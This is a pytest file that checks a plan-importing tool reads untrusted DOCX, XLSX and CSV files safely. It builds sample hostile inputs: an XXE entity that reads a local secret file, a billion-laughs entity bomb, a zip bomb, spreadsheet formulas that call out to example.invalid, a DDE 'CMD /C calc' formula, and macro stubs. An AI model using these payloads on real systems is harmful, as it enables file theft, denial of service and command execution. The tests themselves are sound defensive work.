"""Safety of reading untrusted files (issue 5, point 4): size limits, no external entity resolution
and no entity-expansion bombs in DOCX/XLSX XML, a located error for a file without a table of
measures, and nothing executed from a file (formulas are never evaluated, macros are ignored)."""

from __future__ import annotations

import re
import time
import zipfile
from pathlib import Path

import docx
import openpyxl
import pytest

from gia_roadmap.errors import ReadLimitError, TableReadError
from gia_roadmap.io import import_file, read_tables
from gia_roadmap.io.export_docx import write_docx
from gia_roadmap.io.export_table_xlsx import write_table_xlsx
from gia_roadmap.io.sources import MAX_UNPACKED_BYTES
from gia_roadmap.testing import PlanBuilder

SECRET = "СЕКРЕТНОЕ-СОДЕРЖИМОЕ-ФАЙЛА"


MARKER = "MARKER-TITLE"  # ASCII, so the XML holds it verbatim (openpyxl writes Cyrillic as &#…;)


def _plan(title: str = "Совещание с руководителями ОО") -> object:
    return (
        PlanBuilder("demo")
        .section("1. Организационные мероприятия")
        .measure("1.1.", title, term="май 2024", responsible="УО")
        .build()
    )


def _rewrite(path: Path, member: str, edit: object) -> None:
    """Replace one member of a ZIP (DOCX/XLSX) archive by ``edit(old_text)``."""
    with zipfile.ZipFile(path) as archive:
        items = [(info, archive.read(info.filename)) for info in archive.infolist()]
    assert member in [info.filename for info, _ in items], f"{member} not in the archive"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in items:
            if info.filename == member:
                data = edit(data.decode("utf-8")).encode("utf-8")  # type: ignore[operator]
            archive.writestr(info.filename, data)


def _with_doctype(xml: str, doctype: str, target: str, entity: str) -> str:
    xml = re.sub(r"^<\?xml[^>]*\?>\s*", "", xml)
    assert target in xml
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + doctype + xml.replace(target, entity, 1)
    )


def _external(secret_file: Path) -> str:
    return f'<!DOCTYPE root [<!ENTITY xxe SYSTEM "{secret_file.as_uri()}">]>'


_LAUGHS = (
    '<!DOCTYPE root [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    )
    + "]>"
)


# ---- size limits ------------------------------------------------------------------------------


def test_a_file_over_the_size_limit_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "plan.docx"
    write_docx(_plan(), path)  # type: ignore[arg-type]
    with pytest.raises(TableReadError, match="more than the limit"):
        import_file(path, max_bytes=1000)


def test_a_text_file_over_the_size_limit_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "plan.csv"
    path.write_text("№;Мероприятия;Сроки\n1.;Совещание;май 2024\n" * 100, encoding="utf-8")
    with pytest.raises(TableReadError, match="more than the limit"):
        import_file(path, max_bytes=500)


def test_a_zip_bomb_is_refused_before_unpacking(tmp_path: Path) -> None:
    path = tmp_path / "bomb.xlsx"
    write_table_xlsx(_plan(), path)  # type: ignore[arg-type]
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/padding.bin", b"\0" * (MAX_UNPACKED_BYTES + 1))
    assert path.stat().st_size < 2 * 1024 * 1024  # small on disk, huge unpacked
    with pytest.raises(ReadLimitError, match=r"xl/padding\.bin: max_member_bytes is"):
        import_file(path)


def test_too_many_cells_are_refused(tmp_path: Path) -> None:
    from gia_roadmap.io.sources import read_delimited_blocks

    with pytest.raises(ReadLimitError, match="max_cells is 12, more than the limit of 10"):
        read_delimited_blocks("a;b;c\n" * 10, max_cells=10)


# ---- XML entities -----------------------------------------------------------------------------


def test_docx_external_entity_is_not_resolved(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    path = tmp_path / "xxe.docx"
    write_docx(_plan(MARKER), path)  # type: ignore[arg-type]
    _rewrite(
        path,
        "word/document.xml",
        lambda xml: _with_doctype(xml, _external(secret), MARKER, "&xxe;"),
    )
    try:
        document = read_tables(path)
    except TableReadError:
        return  # refusing the file is safe too
    text = " ".join(c.raw for t in document.tables for r in t.rows for c in r.cells)
    text += " ".join(p.raw for p in document.paragraphs)
    assert MARKER not in text  # the entity reference really replaced the title
    assert SECRET not in text


def test_xlsx_external_entity_is_not_resolved(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    path = tmp_path / "xxe.xlsx"
    write_table_xlsx(_plan(MARKER), path)  # type: ignore[arg-type]
    _rewrite(
        path,
        "xl/worksheets/sheet1.xml",
        lambda xml: _with_doctype(xml, _external(secret), MARKER, "&xxe;"),
    )
    try:
        document = read_tables(path)
    except TableReadError:
        return
    text = " ".join(c.raw for t in document.tables for r in t.rows for c in r.cells)
    assert MARKER not in text  # the entity reference really replaced the title
    assert SECRET not in text


@pytest.mark.parametrize(
    ("suffix", "member", "writer"),
    [("docx", "word/document.xml", write_docx), ("xlsx", "xl/worksheets/sheet1.xml", write_table_xlsx)],
)
def test_entity_expansion_bomb_is_refused(tmp_path: Path, suffix: str, member: str, writer: object) -> None:
    path = tmp_path / f"laughs.{suffix}"
    writer(_plan(MARKER), path)  # type: ignore[operator]
    _rewrite(path, member, lambda xml: _with_doctype(xml, _LAUGHS, MARKER, "&lol9;"))
    start = time.monotonic()
    try:
        document = read_tables(path)
    except TableReadError:
        document = None
    assert time.monotonic() - start < 10
    if document is not None:  # read without expanding: no cell holds the 10⁹ «lol»s
        assert all(MARKER not in c.raw for t in document.tables for r in t.rows for c in r.cells)
        assert all(len(c.raw) < 10_000 for t in document.tables for r in t.rows for c in r.cells)


# ---- no table of measures ---------------------------------------------------------------------


def test_a_docx_without_a_table_of_measures_gives_a_located_error(tmp_path: Path) -> None:
    path = tmp_path / "letter.docx"
    document = docx.Document()
    document.add_paragraph("Уважаемые коллеги!")
    table = document.add_table(rows=2, cols=2)
    table.cell(0, 0).text = "Фамилия"
    table.cell(0, 1).text = "Телефон"
    document.save(str(path))
    with pytest.raises(TableReadError) as error:
        import_file(path)
    message = str(error.value)
    assert "letter.docx" in message
    assert "no table of measures" in message
    assert "1 table(s) read" in message
    assert "«№ | Мероприятия | Сроки | Ответственные»" in message


def test_an_empty_xlsx_gives_a_located_error(tmp_path: Path) -> None:
    path = tmp_path / "empty.xlsx"
    openpyxl.Workbook().save(path)
    with pytest.raises(TableReadError, match=r"empty\.xlsx: no table of measures"):
        import_file(path)


def test_a_damaged_file_gives_a_located_error(tmp_path: Path) -> None:
    path = tmp_path / "damaged.docx"
    path.write_bytes(b"PK\x03\x04 not really a zip")
    with pytest.raises(TableReadError, match=r"damaged\.docx"):
        import_file(path)


# ---- nothing executed -------------------------------------------------------------------------


def test_xlsx_formulas_are_never_evaluated(tmp_path: Path) -> None:
    path = tmp_path / "formulas.xlsx"
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["№ п/п", "Мероприятия", "Сроки", "Ответственные"])
    sheet.append(["1.", '=HYPERLINK("http://example.invalid/?"&A1,"Совещание")', "май 2024", "УО"])
    sheet.append(["2.", "Совещание", '=WEBSERVICE("http://example.invalid/")', '=CMD|" /C calc"!A0'])
    book.save(path)  # openpyxl stores the formulas without cached values: nothing computed them
    result = import_file(path)
    cells = [c for t in result.document.tables for r in t.rows for c in r.cells]
    # A formula is never run: without a value cached by Excel the cell reads as empty.
    assert not any("example.invalid" in c.raw or "CMD" in c.raw for c in cells)
    first, second = (r for t in result.document.tables for r in t.items())
    assert first.cells[1].is_blank
    # the formula cells read as blank, and stay blank (nothing in the sheet merges them with the row above)
    assert second.cells[2].is_blank
    assert second.cells[3].is_blank


def test_xlsx_text_starting_with_equals_is_written_as_text(tmp_path: Path) -> None:
    plan = (
        PlanBuilder("demo")
        .section("Раздел")
        .measure("1.", '=HYPERLINK("http://example.invalid")', term="май 2024")
        .build()
    )
    path = tmp_path / "text.xlsx"
    write_table_xlsx(plan, path)
    book = openpyxl.load_workbook(path)
    values = [c for row in book["План"].iter_rows() for c in row if c.value and str(c.value).startswith("=")]
    assert values
    assert all(c.data_type == "s" for c in values)
    assert import_file(path).roadmap.measures[0].title == '=HYPERLINK("http://example.invalid")'


def test_macros_in_an_xlsm_are_ignored(tmp_path: Path) -> None:
    path = tmp_path / "plan.xlsm"
    write_table_xlsx(_plan(), path)  # type: ignore[arg-type]
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("xl/vbaProject.bin", b'\xd0\xcf\x11\xe0 Attribute VB_Name = "Auto_Open"')
    result = import_file(path)
    assert [m.title for m in result.roadmap.measures] == ["Совещание с руководителями ОО"]


def test_docx_macros_and_embedded_objects_are_ignored(tmp_path: Path) -> None:
    path = tmp_path / "plan.docx"
    write_docx(_plan(), path)  # type: ignore[arg-type]
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 Sub AutoOpen()")
        archive.writestr("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0 payload")
    result = import_file(path)
    assert [m.title for m in result.roadmap.measures] == ["Совещание с руководителями ОО"]
